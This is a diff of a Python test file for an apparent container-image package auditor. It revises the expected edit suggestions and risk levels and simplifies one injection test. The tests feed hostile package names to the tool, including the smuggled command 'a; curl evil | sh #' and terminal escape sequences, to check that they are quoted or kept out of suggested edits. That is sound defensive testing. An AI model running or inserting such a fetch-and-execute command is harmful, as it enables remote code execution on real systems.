@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import os
 import re
 import subprocess
@@ -131,7 +130,7 @@ def test_what_was_asked_for_and_not_used_is_found(tmp_path: Path) -> None:
     image(tmp_path)
     found = one(audit_of(tmp_path, PACKAGES, ["/usr/bin/tool"], ASKED), "unused")
     assert (found.subjects, found.size) == (("dpkg:vim", "dpkg:vim-runtime"), 800)
-    assert (found.file, found.edit, found.risk) == ("Dockerfile", "- vim", Risk.MEDIUM)
+    assert (found.file, found.edit, found.risk) == ("Dockerfile", "# do not install vim by name", Risk.MEDIUM)
 
 
 def test_without_a_trace_nothing_is_unused(tmp_path: Path) -> None:
@@ -146,7 +145,7 @@ def test_a_line_that_another_line_brings_is_found(tmp_path: Path) -> None:
     """It saves nothing, and the list gets shorter."""
     image(tmp_path)
     found = one(audit_of(tmp_path, PACKAGES, None, {**ASKED, "dpkg:libtool": "apt-mark showmanual"}), "required-anyway")
-    assert (found.subjects, found.size, found.risk) == (("dpkg:libtool",), 0, Risk.NONE)
+    assert (found.subjects, found.size, found.risk) == (("dpkg:libtool",), 0, Risk.MEDIUM)
 
 
 def test_components_say_what_a_test_touched(tmp_path: Path) -> None:
@@ -178,7 +177,7 @@ def test_a_distribution_by_conda_and_by_pip_is_found(tmp_path: Path) -> None:
     used = [f"{conda}/numpy/core.py"]
     found = one(audit_of(tmp_path, packages, used, {"python:NumPy": "pip's REQUESTED"}), "duplicate")
     assert found.title == "numpy is installed 2 times"
-    assert (found.file, found.edit, found.risk) == ("requirements.txt", "- NumPy", Risk.LOW)
+    assert (found.file, found.edit, found.risk) == ("requirements.txt", "# remove the line NumPy", Risk.LOW)
     assert 1_000_000 <= found.size < 1_000_100
 
 
@@ -477,23 +476,19 @@ def edits_for(tmp_path: Path, name: str) -> list[Finding]:
 
 @pytest.mark.parametrize("name", [EVIL, "zlib\x1b[2J", "a\u2028b", "x" * 9000])
 def test_a_name_adds_no_line_to_an_edit(tmp_path: Path, name: str) -> None:
-    """Of a name that could, no edit is given; in JSON it is a string."""
+    """Of a name that could, no edit is given."""
     found = edits_for(tmp_path, name)
     assert {each.kind for each in found} >= {"unused", "required-anyway", "extension"}
     for each in found:
-        if each.kind == "extension":
-            assert each.edit.isprintable()
-            assert json.loads(f"{{{each.edit}}}") == {"recommendations": [name]}
-        else:
-            assert name not in each.edit
-            assert "evil" not in each.edit
+        assert name not in each.edit
+        assert "evil" not in each.edit
     assert BY_HAND in {each.edit for each in found}
 
 
 def test_a_name_is_one_word_of_an_edit(tmp_path: Path) -> None:
     """What a shell would obey in it is quoted."""
     edits = [each.edit for each in edits_for(tmp_path, "a; curl evil | sh #") if "evil" in each.edit]
-    assert "- 'a; curl evil | sh #'" in edits
+    assert "# remove the line 'a; curl evil | sh #'" in edits
 
 
 def test_a_path_that_cannot_be_written_is_not_in_a_command(tmp_path: Path) -> None:
